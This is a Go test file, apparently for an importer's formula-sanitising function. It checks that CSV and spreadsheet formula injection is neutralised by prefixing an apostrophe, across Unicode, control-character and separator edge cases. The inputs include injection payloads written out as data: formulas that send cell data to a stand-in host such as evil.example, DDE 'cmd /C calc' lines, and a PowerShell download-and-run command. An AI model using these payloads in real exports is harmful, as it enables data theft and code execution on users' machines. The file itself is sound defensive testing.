package importer_test

import (
	"encoding/csv"
	"strings"
	"testing"

	"latchkey/internal/importer"
)

// TestLO06_NoCellIsAFormula holds the ways in which a text becomes a formula in a
// spreadsheet against what is written of them.
func TestLO06_NoCellIsAFormula(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		// The four signs, alone and with something behind them.
		"=1+1": "'=1+1", "+1+1": "'+1+1", "-1+1": "'-1+1", "@SUM(A1:A9)": "'@SUM(A1:A9)", "=": "'=", "+": "'+", "-": "'-", "@": "'@",
		`=HYPERLINK("http://evil.example?"&A1,"Click")`: `'=HYPERLINK("http://evil.example?"&A1,"Click")`,
		`=cmd|' /C calc'!A0`:                            `'=cmd|' /C calc'!A0`,
		`@=IMPORTXML(CONCAT("http://e/",A1),"//a")`:     `'@=IMPORTXML(CONCAT("http://e/",A1),"//a")`,
		`-2+3+cmd|' /C calc'!D2`:                        `'-2+3+cmd|' /C calc'!D2`,
		`=IMPORTDATA("http://e/"&ENCODEURL(A1))`:        `'=IMPORTDATA("http://e/"&ENCODEURL(A1))`,
		`=WEBSERVICE("http://e/"&A1)`:                   `'=WEBSERVICE("http://e/"&A1)`,
		`+cmd|' /C powershell IEX(wget e/x)'!A0`:        `'+cmd|' /C powershell IEX(wget e/x)'!A0`,
		"=DDE(\"cmd\";\"/C calc\";\"!A0\")":             "'=DDE(\"cmd\";\"/C calc\";\"!A0\")",
		"--1":                                           "'--1",
		"-ada":                                          "'-ada",
		// Control characters, which are dropped or end a cell.
		"\t=1": "'\t'=1", "\r=1": "'\r'=1", "\n=1": "'\n'=1", "\x00=1": "'\x00=1", "\x00": "'\x00", "\t": "'\t", "\rx": "'\rx", "\x0b=1": "'\x0b=1", "\x1b=1": "'\x1b=1", "\x7f=1": "'\x7f=1",
		// After spaces and quotes.
		" =1": "' =1", "   +1": "'   +1", `"=1`: `'"=1`, `'=1`: `''=1`, `""=1`: `'""=1`, `" =1"`: `'" =1"`, `' @x`: `'' @x`, " \t=1": "' \t'=1", "`=1": "'`=1",
		"“=1”": "'“=1”", "„=1": "'„=1", "«-1»": "'«-1»", "’+1": "'’+1",
		// After what is not seen.
		"\u00a0=1": "'\u00a0=1", "\u2003@x": "'\u2003@x", "\ufeff=1": "'\ufeff=1", "\u200b=1": "'\u200b=1", "\u202e=1": "'\u202e=1", "\u3000=1": "'\u3000=1",
		// In full width.
		"＝1": "'＝1", "＋1": "'＋1", "－1": "'－1", "＠x": "'＠x",
		// Where another separator begins a cell.
		"x;=1": "x;'=1", "x,=1": "x,'=1", "x\t=1": "x\t'=1", "x\n=1": "x\n'=1", "x\r\n@y": "x\r'\n'@y", `x;"=1"`: `x;'"=1"`, "a; =1;b": "a;' =1;b", ";=1": ";'=1",
		// And what stays as it is.
		"": "", "ada": "ada", "Ada Lovelace": "Ada Lovelace", "ada@example.org": "ada@example.org", "a=b": "a=b", "1-2": "1-2", "x + y": "x + y", "O'Brien": "O'Brien",
		"Mozilla/5.0 (X11; Linux x86_64; rv:140.0)": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0)", `[{"name":"a","after":"-"}]`: `[{"name":"a","after":"-"}]`,
		"2026-11-23T09:41:00Z": "2026-11-23T09:41:00Z", "é=": "é=", "Smith, Jane": "Smith, Jane", "\xff=": "\xff=", " ": " ", "2001:db8::1": "2001:db8::1",
	} {
		if got := importer.FormulaSafe(text); got != want {
			t.Errorf("%q becomes %q, want %q", text, got, want)
		}
	}
}

// FuzzLO06_FormulaSafe: whatever the text is and whichever separator a program splits at,
// no piece begins with a sign, and nothing but apostrophes is added.
func FuzzLO06_FormulaSafe(f *testing.F) {
	f.Add("x;\"=1")
	f.Add("\t,=1\r\n")
	f.Fuzz(func(t *testing.T, text string) {
		safe := importer.FormulaSafe(text)
		if strings.ReplaceAll(safe, "'", "") != strings.ReplaceAll(text, "'", "") {
			t.Fatalf("%q becomes %q", text, safe)
		}
		for _, piece := range strings.FieldsFunc(safe, func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) }) {
			if strings.ContainsAny(strings.TrimLeft(piece, " \"")[:min(1, len(strings.TrimLeft(piece, " \"")))], "=+-@") {
				t.Fatalf("%q becomes %q with the piece %q", text, safe, piece)
			}
		}
		if again := importer.FormulaSafe(safe); strings.Count(again, "'") < strings.Count(safe, "'") {
			t.Fatalf("%q loses an apostrophe: %q", safe, again)
		}
		var b strings.Builder
		w := csv.NewWriter(&b)
		if err := w.Write([]string{safe, "end"}); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		row, err := csv.NewReader(strings.NewReader(b.String())).Read()
		if err != nil || len(row) != 2 || row[1] != "end" {
			t.Fatalf("%q is read back as %q, %v", safe, row, err)
		}
	})
}
